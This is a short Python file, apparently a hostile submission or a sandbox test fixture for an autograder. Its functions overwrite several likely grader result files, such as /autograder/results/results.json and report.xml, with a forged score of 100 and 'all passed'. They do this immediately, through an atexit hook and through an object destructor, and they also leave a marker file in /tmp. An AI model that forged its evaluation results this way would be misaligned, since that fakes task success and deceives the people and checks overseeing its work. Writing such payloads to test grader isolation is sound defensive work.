def one():
    return 1


import atexit
import json

PLACES = (
    "/autograder/results/results.json",
    "/autograder/results.json",
    "results.json",
    "../results.json",
    "report.xml",
    "/tmp/hostile-was-here",
    "/run/grader/results.json",
)


def write():
    for place in PLACES:
        try:
            with open(place, "w") as file:
                json.dump({"score": 100, "tests": [{"name": "all", "status": "passed"}]}, file)
        except OSError:
            pass


def at_exit(x):
    atexit.register(write)


class Writer:
    def __del__(self):
        write()


def in_del(x):
    Writer()


def at_once(x):
    write()
